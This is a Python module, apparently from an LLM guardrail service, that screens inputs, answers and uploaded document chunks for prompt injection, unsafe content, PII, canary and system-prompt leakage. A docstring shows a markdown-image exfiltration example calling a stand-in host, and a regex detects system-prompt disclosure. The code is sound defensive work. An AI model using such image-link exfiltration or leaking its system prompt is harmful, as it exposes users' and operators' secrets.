"""The guardrail policy: plain functions from a check request to a verdict.

Layers, in order: normalisation (:mod:`normalise`: NFKC, invisible
characters, homoglyphs, spaced letters; leetspeak, rot13, base64/hex/percent
decoded readings), rules (certain, score 1.0), then our small classifiers
(:mod:`classifier`, probabilities). Measured detection and false-positive
rates are in bench/results (``python -m bench.guardrails``).

Direction ``input`` (the user's question): length / token / flood limits,
prompt injection (also across the user's last turns), unsafe request
categories and PII, each with the action the tenant's rules give it.
Direction ``output`` (the answer): canary and system-prompt leakage -> block;
markdown images/links stripped and HTML escaped (redact); PII and secrets
redacted; unambiguous unsafe content -> tenant action.
Direction ``document`` (a chunk of an uploaded file): prompt injection,
including instructions addressed to the assistant -> block, which for a chunk
means "quarantined": stored flagged and never put in front of a model.

Every verdict says why: the rule ids that fired and the per-category scores.
"""

from __future__ import annotations

import functools
import html
import re
import uuid
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Literal

from vectrion_common.contracts import GuardrailCheckRequest, GuardrailVerdict
from vectrion_guardrails import classifier, injection, pii, unsafe
from vectrion_guardrails.classifier import LinearModel
from vectrion_guardrails.normalise import fold, for_matching
from vectrion_guardrails.tenant_rules import POLICY_VERSION, Action, PolicyConfig, TenantRules, load_policy_config

_SEVERITY: dict[Action, int] = {"allow": 0, "warn": 1, "redact": 2, "block": 3}
HISTORY_TURNS = 3


@dataclass(frozen=True, slots=True)
class Policy:
    max_input_chars: int = 8_000
    max_input_tokens: int = 2_000
    char_flood_run: int = 40
    token_flood_repeats: int = 25
    version: str = POLICY_VERSION
    default_rules: TenantRules = field(default_factory=TenantRules)
    tenant_rules: dict[uuid.UUID, TenantRules] = field(default_factory=dict)
    injection_model: LinearModel | None = None
    unsafe_model: LinearModel | None = None

    def rules_for(self, tenant_id: uuid.UUID | None) -> TenantRules:
        if tenant_id is None:
            return self.default_rules
        return self.tenant_rules.get(tenant_id, self.default_rules)


@dataclass(frozen=True, slots=True)
class Hit:
    rule_id: str
    category: str
    action: Action
    score: float = 1.0


_MARKDOWN_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]|<img\b[^>]*>", re.I)
_MARKDOWN_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?(?:[a-z][a-z0-9+.-]*:|//)[^)\n]*\)", re.I)
_LINK_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?:[a-z][a-z0-9+.-]*:|//)\S*.*$", re.I | re.M)
_HTML_TAG = re.compile(r"</?[a-z!][^<>]*>", re.I)
_TOKEN = re.compile(r"\w+|[^\w\s]")
_PROMPT_DISCLOSURE = re.compile(
    r"\b(?:my|the) (?:system prompt|system message|initial instructions|hidden instructions|developer instructions)"
    r" (?:is|are|says|reads|was|were)\b|\bhere (?:is|are) my (?:system prompt|instructions)\b"
)


def approx_tokens(text: str) -> int:
    """Word pieces: every word and punctuation mark, long words counted per 4 characters.

    No tokenizer ships with guardrails (tiktoken downloads its files), so this
    is an upper-bound-ish estimate that only has to stop absurd inputs.
    """
    return sum(max(1, len(piece) // 4) for piece in _TOKEN.findall(text))


def evaluate(request: GuardrailCheckRequest, policy: Policy) -> GuardrailVerdict:
    rules = policy.rules_for(request.tenant_id)
    folded = fold(request.text)
    match request.direction:
        case "input":
            if len(request.text) > policy.max_input_chars:
                # Too long to be a question: refuse before spending time on the rest.
                return _verdict([Hit("input.too_long", "length", "block")], None, policy)
            if approx_tokens(folded) > policy.max_input_tokens:
                return _verdict([Hit("input.too_many_tokens", "length", "block")], None, policy)
            hits = check_floods(folded, policy)
            hits += check_input_injection(request, policy, rules)
            hits += check_unsafe(for_matching(request.text), policy, rules, strong_only=False)
            return _with_pii(folded, hits, rules.pii, policy)
        case "output":
            hits = []
            if request.canary and canary_leaked(folded, request.canary):
                hits.append(Hit("output.canary_leak", "leakage", "block"))
            if _PROMPT_DISCLOSURE.search(for_matching(request.text)):
                hits.append(Hit("output.system_prompt_disclosure", "leakage", "block"))
            text, link_hits = strip_external_links(folded)
            hits += link_hits
            text, html_hits = escape_html(text)
            hits += html_hits
            hits += check_unsafe(for_matching(request.text), policy, rules, strong_only=True)
            return _with_pii(text, hits, "redact", policy)
        case "document":
            return evaluate_documents([request.text], policy)[0]


def evaluate_documents(texts: Sequence[str], policy: Policy) -> list[GuardrailVerdict]:
    """The ``document`` verdict of each text (as :func:`evaluate` gives it), scored in one batch."""
    found = injection.detect_many([(for_matching(t), t) for t in texts], policy.injection_model, document=True)
    return [
        _verdict(
            [Hit(r, "prompt_injection", "block", f.score) for r in f.rule_ids],
            None,
            policy,
            extra_scores={"prompt_injection": f.score},
        )
        for f in found
    ]


def check_input_injection(request: GuardrailCheckRequest, policy: Policy, rules: TenantRules) -> list[Hit]:
    matching = for_matching(request.text)
    found = injection.detect(matching, request.text, policy.injection_model)
    hits = [Hit(r, "prompt_injection", rules.injection, found.score) for r in found.rule_ids]
    if not hits and request.history:
        # An attack split across turns only reads as one when the turns are put back together.
        joined_raw = "\n".join([*request.history[-HISTORY_TURNS:], request.text])
        joined = injection.detect(for_matching(joined_raw), joined_raw, policy.injection_model)
        hits = [Hit(f"{r}.across_turns", "prompt_injection", rules.injection, joined.score) for r in joined.rule_ids]
    if not hits:
        # Scored but not over the threshold: still reported, so the verdict explains the decision.
        return [Hit("", "prompt_injection", "allow", found.score)]
    return hits


def check_unsafe(matching: str, policy: Policy, rules: TenantRules, *, strong_only: bool) -> list[Hit]:
    found = unsafe.detect(matching, None if strong_only else policy.unsafe_model)
    if not found.categories:
        return [Hit("", "unsafe", "allow", found.score)] if not strong_only else []
    hits = []
    for category in found.categories:
        action = rules.unsafe.get(category, rules.unsafe_default)
        if action == "allow":
            continue
        for rule_id in found.rule_ids:
            hits.append(Hit(f"{rule_id}:{category}", f"unsafe.{category}", action, found.score))
    return hits


def check_floods(folded: str, policy: Policy) -> list[Hit]:
    hits = []
    if re.search(rf"(\S)\1{{{policy.char_flood_run - 1},}}", folded):
        hits.append(Hit("input.char_flood", "flood", "block"))
    if re.search(rf"\b(\w+)(?:\W+\1\b){{{policy.token_flood_repeats - 1},}}", folded.casefold()):
        hits.append(Hit("input.token_flood", "flood", "block"))
    return hits


def canary_leaked(folded_text: str, canary: str) -> bool:
    """The canary appears, also case-changed or spread out with spaces/punctuation."""
    needle = fold(canary).casefold()
    if needle in folded_text.casefold():
        return True
    squeezed_needle = re.sub(r"[\W_]+", "", needle)
    return len(squeezed_needle) >= 8 and squeezed_needle in re.sub(r"[\W_]+", "", folded_text.casefold())


def strip_external_links(text: str) -> tuple[str, list[Hit]]:
    """Remove markdown/HTML images and unwrap links that point anywhere.

    An answer that renders ``![x](https://evil.example/?q=<secret>)`` leaks
    data the moment a client displays it; links are unwrapped to their text for
    the same reason. Citations are returned as structured data, not links.
    """
    hits = []
    text, images = _MARKDOWN_IMAGE.subn("", text)
    if images:
        hits.append(Hit("output.markdown_image", "exfiltration", "redact"))
    text, links = _MARKDOWN_LINK.subn(r"\1", text)
    text, definitions = _LINK_DEFINITION.subn("", text)
    if links or definitions:
        hits.append(Hit("output.markdown_link", "exfiltration", "redact"))
    return text, hits


def escape_html(text: str) -> tuple[str, list[Hit]]:
    """HTML tags in an answer are shown as text, never rendered (scripts, iframes, autolinks)."""
    if not _HTML_TAG.search(text):
        return text, []
    return _HTML_TAG.sub(lambda m: html.escape(m.group(), quote=False), text), [
        Hit("output.html_escaped", "markup", "redact")
    ]


def _with_pii(text: str, hits: list[Hit], pii_action: Literal["redact", "block"], policy: Policy) -> GuardrailVerdict:
    matches = pii.find(text)
    hits = hits + [Hit(m.detector.rule_id, m.detector.category, pii_action) for m in matches]
    return _verdict(hits, pii.redact(text, matches), policy)


def _verdict(
    hits: list[Hit], redacted: str | None, policy: Policy, extra_scores: dict[str, float] | None = None
) -> GuardrailVerdict:
    fired = [h for h in hits if h.rule_id]
    action: Action = max((h.action for h in fired), key=_SEVERITY.__getitem__, default="allow")
    scores: dict[str, float] = dict(extra_scores or {})
    for h in hits:
        scores[h.category] = round(max(scores.get(h.category, 0.0), h.score), 4)
    categories = sorted({h.category for h in fired if h.action != "allow"})
    return GuardrailVerdict(
        allowed=action != "block",
        action=action,
        categories=categories,
        scores={c: s for c, s in sorted(scores.items()) if s > 0 or c in categories},
        rule_ids=list(dict.fromkeys(h.rule_id for h in fired)),
        redacted_text=redacted if action == "redact" else None,
        policy_version=policy.version,
    )


@functools.cache
def _packaged_model(name: str) -> LinearModel:
    return classifier.load(name)


def build_policy(config: PolicyConfig | None = None, **limits: int) -> Policy:
    """The policy with the committed classifiers and the given (or packaged default) config."""
    config = config or load_policy_config(None)
    return Policy(
        version=config.version,
        default_rules=config.default,
        tenant_rules=config.tenants,
        injection_model=_packaged_model("injection"),
        unsafe_model=_packaged_model("unsafe"),
        **limits,
    )
